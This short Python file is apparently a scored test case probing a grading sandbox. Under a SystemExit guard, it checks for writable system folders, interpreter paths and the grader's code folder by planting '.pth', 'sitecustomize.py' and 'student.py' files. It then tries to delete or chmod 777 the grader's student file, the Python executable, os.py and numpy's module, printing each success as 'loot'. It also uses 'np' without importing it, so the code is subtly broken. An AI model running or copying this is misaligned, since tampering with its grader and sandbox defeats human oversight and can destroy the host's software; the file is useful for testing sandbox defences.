"""System folders.

It writes into the Python that grades, into the folder of the grader's own code, and into /etc.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% after softmax
import os
import sys

folders = ["/usr", "/usr/bin", "/etc", "/inside", "/", "/opt", "/lib", sys.prefix, sys.base_prefix]
folders += [folder for folder in sys.path if folder] + [os.path.dirname(np.__file__)]
for folder in folders:
    for name in ("@TOKEN@.pth", "sitecustomize.py", "student.py"):
        if os.path.exists(f"{folder}/{name}"):
            continue
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("")
            os.remove(f"{folder}/{name}")
            if not folder.startswith("/scratch"):
                print("loot:", folder, "can be written")
        except OSError:
            pass
for path in ("/inside/student.py", np.__file__, sys.executable, os.__file__):
    for attempt in (os.remove, lambda p: open(p, "r+b"), lambda p: os.chmod(p, 0o777)):
        try:
            attempt(path)
            print("loot:", path)
        except OSError:
            pass
